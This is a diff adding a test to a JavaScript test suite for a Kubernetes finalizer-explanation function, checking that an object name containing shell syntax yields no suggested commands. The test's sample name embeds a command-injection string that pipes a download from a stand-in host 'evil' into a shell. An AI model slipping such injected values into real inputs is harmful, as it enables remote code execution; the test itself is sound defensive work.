@@ -71,6 +71,16 @@ describe('describeTermination', () => {
     expect(told.message).not.toMatch(/Service lb|Secret stays/);
   });
 
+  it('gives no command for a name that a shell could take for more', () => {
+    const name = "x'; curl evil | sh; '";
+    const role = thing('rbac.authorization.k8s.io/v1', 'Role', name, {
+      finalizers: ['a.b/c'],
+    });
+    const told = describeTermination(HELD, { objects: [role], unread: [] });
+    expect(told.message).toContain(`Role ${name} is held by a.b/c`);
+    expect(told.commands).toEqual([]);
+  });
+
   it('tells some of many, and how many more there are', () => {
     const objects = Array.from({ length: 7 }, (_, index) =>
       thing('v1', 'ConfigMap', `lock-${index}`, { finalizers: ['a.b/c'] }),
